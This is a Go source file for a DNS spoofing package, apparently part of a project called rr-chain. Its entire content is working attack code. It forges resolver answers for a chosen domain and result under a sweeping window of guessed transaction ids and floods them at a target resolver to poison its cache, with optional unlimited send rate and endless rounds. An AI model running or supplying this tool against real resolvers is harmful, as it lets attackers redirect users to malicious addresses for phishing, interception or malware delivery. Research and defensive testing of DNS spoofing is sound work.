// Package spoofer forges upstream answers for a window of guessed
// transaction ids and fires them at a resolver, hoping to land before the
// genuine authoritative reply.
package spoofer

import (
	"context"
	"errors"
	"fmt"
	"net"
	"time"

	"golang.org/x/time/rate"

	"github.com/haukened/rr-chain/internal/dns/common/log"
	"github.com/haukened/rr-chain/internal/dns/domain"
	"github.com/haukened/rr-chain/internal/dns/gateways/transport"
	"github.com/haukened/rr-chain/internal/dns/gateways/wire"
)

var (
	errSenderRequired = errors.New("sender is required")
	errCodecRequired  = errors.New("codec is required")
	errTargetRequired = errors.New("target address is required")
	errEmptyWindow    = errors.New("id window must not be empty")
)

// Options describes the forged answer and how hard to push it.
type Options struct {
	Sender transport.Sender
	Codec  wire.Codec
	Target net.Addr

	// The answer every forged datagram claims.
	Domain string
	Type   domain.RRType
	Result string
	TTL    uint32

	// Ids WindowStart through WindowStart+WindowSize-1 are tried each round.
	WindowStart uint32
	WindowSize  uint32

	// Limiter paces sends. Nil sends as fast as the socket allows.
	Limiter *rate.Limiter

	// Rounds is how many times the window is swept; 0 sweeps until ctx ends.
	Rounds int
	Pause  time.Duration

	Logger log.Logger
}

// Spoofer sends forged Responses.
type Spoofer struct {
	opts Options
}

// New validates opts.
func New(opts Options) (*Spoofer, error) {
	switch {
	case opts.Sender == nil:
		return nil, errSenderRequired
	case opts.Codec == nil:
		return nil, errCodecRequired
	case opts.Target == nil:
		return nil, errTargetRequired
	case opts.WindowSize == 0:
		return nil, errEmptyWindow
	}
	if !opts.Type.IsValid() {
		return nil, fmt.Errorf("%w: %d", domain.ErrUnsupportedRRType, opts.Type)
	}
	if opts.Limiter == nil {
		opts.Limiter = rate.NewLimiter(rate.Inf, 1)
	}
	if opts.Logger == nil {
		opts.Logger = log.NewNoopLogger()
	}
	return &Spoofer{opts: opts}, nil
}

// Forge encodes the forged answer under id.
func (s *Spoofer) Forge(id uint32) ([]byte, error) {
	return s.opts.Codec.EncodeResponse(domain.NewAnswer(id, s.opts.Domain, s.opts.Type, s.opts.TTL, s.opts.Result))
}

// Round sweeps the window once and returns how many datagrams left the
// socket. Individual send failures are logged and skipped.
func (s *Spoofer) Round(ctx context.Context) (int, error) {
	sent := 0
	for i := uint64(0); i < uint64(s.opts.WindowSize); i++ {
		id := s.opts.WindowStart + uint32(i) // wraps past 2^32-1
		if err := s.opts.Limiter.Wait(ctx); err != nil {
			return sent, err
		}
		payload, err := s.Forge(id)
		if err != nil {
			return sent, fmt.Errorf("forge txid %d: %w", id, err)
		}
		if err := s.opts.Sender.Send(domain.Datagram{Payload: payload, Addr: s.opts.Target}); err != nil {
			s.opts.Logger.Warn(map[string]any{"txid": id, "error": err}, "Forged reply not sent")
			continue
		}
		sent++
		s.opts.Logger.Debug(map[string]any{"txid": id, "target": s.opts.Target.String()}, "Forged reply sent")
	}
	return sent, nil
}

// Run sweeps the window for the configured number of rounds. Cancelling ctx
// ends the flood early without an error.
func (s *Spoofer) Run(ctx context.Context) (int, error) {
	total := 0
	for round := 1; s.opts.Rounds == 0 || round <= s.opts.Rounds; round++ {
		n, err := s.Round(ctx)
		total += n
		if err != nil {
			if ctx.Err() != nil {
				return total, nil
			}
			return total, err
		}
		s.opts.Logger.Info(map[string]any{
			"round":  round,
			"sent":   n,
			"domain": s.opts.Domain,
			"result": s.opts.Result,
		}, "Spoof round complete")

		if s.opts.Rounds != 0 && round == s.opts.Rounds {
			break
		}
		if !sleep(ctx, s.opts.Pause) {
			return total, nil
		}
	}
	return total, nil
}

// sleep waits d or until ctx ends, reporting whether the full wait elapsed.
func sleep(ctx context.Context, d time.Duration) bool {
	if d <= 0 {
		return ctx.Err() == nil
	}
	t := time.NewTimer(d)
	defer t.Stop()
	select {
	case <-ctx.Done():
		return false
	case <-t.C:
		return true
	}
}
